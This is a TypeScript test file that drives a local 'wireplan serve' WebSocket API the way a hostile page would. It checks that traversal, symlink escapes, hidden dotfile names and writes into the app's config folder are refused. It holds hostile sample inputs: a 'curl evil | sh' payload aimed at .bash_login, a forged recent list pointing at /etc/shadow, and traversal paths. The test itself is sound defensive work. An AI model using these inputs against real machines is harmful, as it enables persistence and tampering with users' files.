// The workspace of a real `wireplan serve` process, driven over its WebSocket API like a
// hostile page would: the escape reported in issue 11 (serve started in $HOME, then
// saveDesign(".config/wireplan/recent.json") and exportFile(".bash_login")), traversal,
// absolute paths, symlinks out of the workspace, hidden names, wrong extensions and the
// config folder inside the workspace are each refused with a specific message; serve
// refuses / and $HOME (or a folder holding the config folder) as its workspace without
// --allow-home; and 200 overlapping saves of one file each leave a complete old or new file.
// Everything lives in this test's own temporary folder, with its own HOME.
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { WIRE_PROTOCOL, WIRE_TOKEN_PREFIX, decodeWire, encodeWire, type SaveResult } from '../../../shared/api/contract';

const ROOT = fileURLToPath(new URL('../../..', import.meta.url));
const tmp = mkdtempSync(join(tmpdir(), 'wp-serve-ws-'));
const home = join(tmp, 'home');
mkdirSync(home);
const children = new Set<ChildProcessWithoutNullStreams>();

afterAll(async () => {
  for (const c of children) {
    if (c.exitCode === null && c.signalCode === null) {
      const exited = new Promise((r) => c.once('exit', r));
      c.kill('SIGTERM'); // our own child, by its handle
      await exited;
    }
  }
  rmSync(tmp, { recursive: true, force: true });
});

/** HOME is this test's; the config folder the default under it unless given. */
function envFor(configDir?: string): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = { ...process.env, HOME: home };
  delete env['WIREPLAN_CONFIG_DIR'];
  delete env['XDG_CONFIG_HOME'];
  if (configDir) env['WIREPLAN_CONFIG_DIR'] = configDir;
  return env;
}

interface Started {
  url: URL;
  token: string;
  call(method: string, params: unknown[]): Promise<unknown>;
  calls(method: string, list: unknown[][], onResult: (i: number, value: unknown) => void): Promise<void>;
}

type Outcome = { kind: 'listening'; started: Started } | { kind: 'exited'; code: number | null; stderr: string };

/** Runs `wireplan serve ARGS` in `cwd`; resolves when it listens (it prints the address) or exits. */
async function serve(args: string[], cwd: string, env: NodeJS.ProcessEnv): Promise<Outcome> {
  const child = spawn(process.execPath, [join(ROOT, 'bin/wireplan.mjs'), 'serve', '--port', '0', ...args], { cwd, env });
  children.add(child);
  let out = '';
  let err = '';
  child.stderr.on('data', (b: Buffer) => (err += b.toString()));
  const first = await new Promise<{ url: string } | { code: number | null }>((resolve) => {
    child.stdout.on('data', (b: Buffer) => {
      out += b.toString();
      const m = /open (http:\/\/127\.0\.0\.1:\d+\/#token=[A-Za-z0-9_-]+)/.exec(out);
      if (m) resolve({ url: m[1]! });
    });
    child.once('exit', (code) => resolve({ code }));
  });
  if ('code' in first) return { kind: 'exited', code: first.code, stderr: err };
  const url = new URL(first.url);
  const token = url.hash.slice('#token='.length);
  const ws = new WebSocket(`ws://${url.host}/api`, [WIRE_PROTOCOL, `${WIRE_TOKEN_PREFIX}${token}`], { headers: { Origin: url.origin }, maxPayload: 256 * 1024 * 1024 });
  await new Promise((r, j) => (ws.once('open', r), ws.once('error', j)));
  const waiting = new Map<number, (m: { ok: boolean; value?: unknown; error?: { message: string } }) => void>();
  ws.on('message', (d) => {
    const m = decodeWire(String(d)) as { type: string; id: number; ok: boolean; value?: unknown; error?: { message: string } };
    if (m.type === 'result') waiting.get(m.id)?.(m);
  });
  let nextId = 1;
  const one = (method: string, params: unknown[]) =>
    new Promise<unknown>((resolve, reject) => {
      const id = nextId++;
      waiting.set(id, (m) => (waiting.delete(id), m.ok ? resolve(m.value) : reject(new Error(m.error?.message))));
      ws.send(encodeWire({ type: 'call', id, method, params }));
    });
  return {
    kind: 'listening',
    started: {
      url,
      token,
      call: one,
      // All sent before any answer arrives; each result handled the moment it arrives.
      calls: async (method, list, onResult) => {
        await Promise.all(list.map((params, i) => one(method, params).then((v) => onResult(i, v))));
      },
    },
  };
}

function refusal(r: unknown): string {
  const res = r as SaveResult;
  expect(res.ok).toBe(false);
  return !res.ok && !res.canceled ? res.error : '(canceled)';
}

describe('serve refuses a workspace that exposes the home folder or app state', () => {
  it('refuses $HOME itself (the default when started there), /, and a folder holding the config folder; names --allow-home', async () => {
    const work = join(tmp, 'work');
    const [inHome, root, holding] = await Promise.all([serve([], home, envFor()), serve(['--dir', '/'], home, envFor()), serve(['--dir', work], home, envFor(join(work, 'state')))]);
    expect(inHome).toMatchObject({ kind: 'exited', code: 2 });
    expect(inHome.kind === 'exited' && inHome.stderr).toContain(`${home} (the current folder, the default workspace): the workspace would be your home folder itself`);
    expect(inHome.kind === 'exited' && inHome.stderr).toContain('--allow-home');
    expect(root).toMatchObject({ kind: 'exited', code: 2 });
    expect(root.kind === 'exited' && root.stderr).toContain('cannot be the root folder /');
    expect(holding).toMatchObject({ kind: 'exited', code: 2 });
    expect(holding.kind === 'exited' && holding.stderr).toContain(`holds Wireplan's config folder ${join(work, 'state')}`);
  }, 60_000);
});

describe('a page of serve started in $HOME with --allow-home (the reproduction from issue 11)', () => {
  let api: Started;
  const config = join(home, '.config', 'wireplan');
  const outside = join(tmp, 'outside');

  beforeAll(async () => {
    mkdirSync(outside);
    writeFileSync(join(outside, 'victim.json'), '{"untouched":true}');
    mkdirSync(join(home, 'notes'));
    symlinkSync(join(outside, 'victim.json'), join(home, 'link-out.json'));
    symlinkSync(outside, join(home, 'dir-out'));
    const started = await serve(['--allow-home'], home, envFor());
    if (started.kind !== 'listening') throw new Error(`serve did not start: ${started.stderr}`);
    api = started.started;
    // A legitimate save puts something on the recent list.
    expect(await api.call('saveDesign', ['lab.wireplan.json', '{"wireplan":2,"name":"lab"}'])).toMatchObject({ ok: true, path: join(home, 'lab.wireplan.json') });
  }, 60_000);

  it('saveDesign(".config/wireplan/recent.json") is refused and the recent list stays as it was', async () => {
    const recent = join(config, 'recent.json');
    const before = readFileSync(recent, 'utf8');
    const evil = JSON.stringify({ version: 1, files: [{ path: '/etc/shadow', name: 'x', openedAt: new Date().toISOString() }] });
    for (const path of ['.config/wireplan/recent.json', recent]) {
      for (const condition of [undefined, { overwrite: true }]) {
        const why = refusal(await api.call('saveDesign', [path, evil, null, condition ?? null]));
        expect(why).toContain(`${recent}: inside Wireplan's own config folder ${config}`);
      }
    }
    expect(refusal(await api.call('openDesign', ['.config/wireplan/recent.json']))).toContain("inside Wireplan's own config folder");
    expect(readFileSync(recent, 'utf8')).toBe(before);
  });

  it('exportFile(".bash_login") is refused: no file, no executable', async () => {
    const why = refusal(await api.call('exportFile', [{ suggestedName: '.bash_login', data: 'curl evil | sh\n', mimeType: 'text/x-shellscript' }]));
    expect(why).toBe(`${join(home, '.bash_login')}: hidden names (starting with ".") are not allowed in the workspace: ".bash_login"`);
    expect(existsSync(join(home, '.bash_login'))).toBe(false);
    // A script the user asked for, plainly named, is executable; a diagram is not.
    expect(await api.call('exportFile', [{ suggestedName: 'lab.sh', data: '#!/bin/bash\n', mimeType: 'text/x-shellscript' }])).toEqual({ ok: true, path: join(home, 'lab.sh') });
    expect(statSync(join(home, 'lab.sh')).mode & 0o777).toBe(0o755);
    expect(await api.call('exportFile', [{ suggestedName: 'lab.svg', data: '<svg/>', mimeType: 'text/x-shellscript' }])).toEqual({ ok: true, path: join(home, 'lab.svg') });
    expect(statSync(join(home, 'lab.svg')).mode & 0o111).toBe(0);
    expect(refusal(await api.call('exportFile', [{ suggestedName: 'bashrc', data: 'x', mimeType: 'text/x-shellscript' }]))).toContain('not an export file: an export file name ends in .sh');
  });

  it('traversal, absolute paths outside, links out, hidden names and wrong extensions: each refused with its own message', async () => {
    const cases: [string, string][] = [
      ['../outside/victim.json', `'..' is not allowed in a path`],
      ['notes/../../outside/victim.json', `'..' is not allowed in a path`],
      [join(outside, 'victim.json'), `${join(outside, 'victim.json')}: outside the workspace ${home}`],
      ['/etc/passwd.json', '/etc/passwd.json: outside the workspace'],
      ['link-out.json', `${join(home, 'link-out.json')}: a symbolic link leads out of the workspace (to ${join(outside, 'victim.json')})`],
      ['dir-out/victim.json', `${join(home, 'dir-out', 'victim.json')}: a symbolic link leads out of the workspace`],
      ['.hidden.wireplan.json', 'hidden names (starting with ".") are not allowed in the workspace: ".hidden.wireplan.json"'],
      ['notes/.x.json', 'hidden names (starting with ".") are not allowed in the workspace: ".x.json"'],
      ['.ssh/authorized_keys.json', 'hidden names (starting with ".") are not allowed in the workspace: ".ssh"'],
      ['notes.txt', 'not a design file: a design file name ends in .wireplan.json or .json'],
      ['.bashrc', 'hidden names'],
      ['missing/new.json', `the folder ${join(home, 'missing')} does not exist`],
    ];
    for (const [path, message] of cases) {
      expect(refusal(await api.call('saveDesign', [path, '{"wireplan":2}', null, { overwrite: true }])), path).toContain(message);
      expect(refusal(await api.call('openDesign', [path])), path).toContain(message);
    }
    expect(readFileSync(join(outside, 'victim.json'), 'utf8')).toBe('{"untouched":true}');
    expect(readdirSync(outside)).toEqual(['victim.json']);
    expect(lstatSync(join(home, 'link-out.json')).isSymbolicLink()).toBe(true);
  });

  it('200 overlapping saves of one file: after each answer the file is one complete version, and no temporary file is left', async () => {
    const file = join(home, 'busy.wireplan.json');
    const pad = 'x'.repeat(64 * 1024);
    const texts = Array.from({ length: 200 }, (_, i) => `${JSON.stringify({ wireplan: 2, name: `version ${i}`, pad: `${pad}${i}` })}\n`);
    const first = `${JSON.stringify({ wireplan: 2, name: 'first', pad })}\n`;
    expect(await api.call('saveDesign', [file, first])).toMatchObject({ ok: true });
    const complete = new Set([first, ...texts]);
    const seen: string[] = [];
    const failures: unknown[] = [];
    await api.calls(
      'saveDesign',
      texts.map((t) => [file, t, null, { overwrite: true }]),
      (_i, r) => {
        if (!(r as SaveResult).ok) failures.push(r);
        const now = readFileSync(file, 'utf8');
        seen.push(complete.has(now) ? 'complete' : `torn (${now.length} bytes)`);
      },
    );
    expect(failures).toEqual([]);
    expect(seen.filter((s) => s !== 'complete')).toEqual([]);
    expect(seen).toHaveLength(200);
    expect(complete.has(readFileSync(file, 'utf8'))).toBe(true);
    expect(readdirSync(home).filter((n) => n.endsWith('.wptmp'))).toEqual([]);
  }, 120_000);
});

describe('the config folder inside the workspace (--allow-home given)', () => {
  it('stays unreachable: its files are refused by name and through links', async () => {
    const work = join(tmp, 'work2');
    const state = join(work, 'state');
    const started = await serve(['--dir', work, '--allow-home'], home, envFor(state));
    if (started.kind !== 'listening') throw new Error(`serve did not start: ${started.stderr}`);
    const api = started.started;
    expect(await api.call('saveDesign', ['ok.wireplan.json', '{"wireplan":2}'])).toMatchObject({ ok: true });
    const recent = join(state, 'recent.json');
    const before = readFileSync(recent, 'utf8');
    expect(refusal(await api.call('saveDesign', ['state/recent.json', '{}', null, { overwrite: true }]))).toContain(`${recent}: inside Wireplan's own config folder ${state}`);
    expect(refusal(await api.call('saveDesign', ['state/autosave.json', '{}']))).toContain("inside Wireplan's own config folder");
    symlinkSync(recent, join(work, 'recent-link.json'));
    expect(refusal(await api.call('saveDesign', ['recent-link.json', '{}', null, { overwrite: true }]))).toContain(`inside Wireplan's own config folder ${state} (a symbolic link leads to ${recent})`);
    expect(refusal(await api.call('openDesign', ['recent-link.json']))).toContain("inside Wireplan's own config folder");
    expect(readFileSync(recent, 'utf8')).toBe(before);
  }, 60_000);
});
